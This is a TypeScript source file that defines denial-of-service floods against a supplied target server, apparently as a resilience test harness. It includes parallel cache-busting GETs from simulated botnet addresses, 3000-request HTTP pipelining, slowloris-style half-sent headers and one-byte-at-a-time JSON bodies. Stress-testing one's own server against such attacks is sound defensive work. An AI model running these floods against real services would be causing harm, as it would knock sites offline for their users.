import { Agent } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { ask } from '../ask.ts';
import { botAddress, type Flood, inParallel } from './flood.ts';

const parallel = 40;
/** Addresses of one botnet that wait at the same time: more than the queue has places. */
const crowd = 300;
const pipelined = 3000;

/** `address`: the address of all requests; null: each comes from another network. */
const get =
  (path: (worker: number, turn: number) => string, address: string | null, atOnce = parallel): Flood =>
  async (ground) => {
    const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
    await inParallel(atOnce, ground, async (worker, turn) => {
      const from = address ?? botAddress(worker + atOnce * turn);
      ground.count((await ask(ground.target, { path: path(worker, turn), agent, from, signal: ground.signal })).status);
    });
    agent.destroy();
  };

/** One connection after the other, each with all its requests in one packet. */
const pipeline: Flood = (ground) =>
  inParallel(2, ground, async () => {
    const socket = connect(Number(ground.target.port), ground.target.hostname);
    socket.on('error', () => {}).resume();
    socket.write(`GET /login?p HTTP/1.1\r\nHost: ${ground.target.host}\r\n\r\n`.repeat(pipelined));
    await Promise.race([new Promise((resolve) => socket.once('close', resolve)), sleep(1000)]);
    socket.destroy();
    ground.count('pipelines');
  });

/** Clients that disconnect before their page can be ready. */
const leave: Flood = (ground) =>
  inParallel(20, ground, async (worker, turn) => {
    await ask(ground.target, { path: `/login?${worker}-${turn}`, from: botAddress(turn), signal: AbortSignal.timeout(10) });
    ground.count('left');
  });

/** Connections that begin a request and never end it, as slowloris does. */
const halves: Flood = async ({ target, signal, count }) => {
  const sockets = Array.from({ length: 500 }, () => {
    const socket = connect(Number(target.port), target.hostname);
    socket.on('error', () => {}).on('close', () => count('closed'));
    socket.write(`GET /login HTTP/1.1\r\nHost: ${target.host}\r\nX-A: `);
    count('opened');
    return socket;
  });
  while (!signal.aborted) {
    for (const socket of sockets) socket.write('a');
    await sleep(500);
  }
  for (const socket of sockets) socket.destroy();
};

/** Small JSON bodies, sent one byte at a time, to calls that a visitor may make. */
const dribbles: Flood = async ({ target, signal, count }) => {
  const body = JSON.stringify({ email: 'nobody@attack.test', password: 'x'.repeat(100_000) });
  const head = `POST /api/user.php HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`;
  const sockets = Array.from({ length: 500 }, () => {
    const socket = connect(Number(target.port), target.hostname);
    socket
      .on('error', () => {})
      .on('close', () => count('closed'))
      .resume();
    socket.write(head);
    count('opened');
    return socket;
  });
  for (let at = 0; !signal.aborted; at += 10) {
    for (const socket of sockets) socket.write(body.slice(at, at + 10));
    await sleep(250);
  }
  for (const socket of sockets) socket.destroy();
};

export const pageFloods: Readonly<Record<string, Flood>> = {
  [`${parallel} × GET /`]: get(() => '/', '198.51.100.1'),
  // Each address is different, so the server cannot cache any answer.
  [`${parallel} × GET /login?n`]: get((worker, turn) => `/login?${worker}-${turn}`, '198.51.100.2'),
  [`${parallel} × GET /login?n of a botnet`]: get((worker, turn) => `/login?${worker}-${turn}`, null),
  [`${crowd} × GET /login?n of as many addresses`]: get((worker, turn) => `/login?${worker}-${turn}`, null, crowd),
  [`${pipelined} pipelined GET /login`]: pipeline,
  'callers who leave': leave,
  '500 half-sent requests': halves,
  '500 JSON bodies that dribble': dribbles,
};
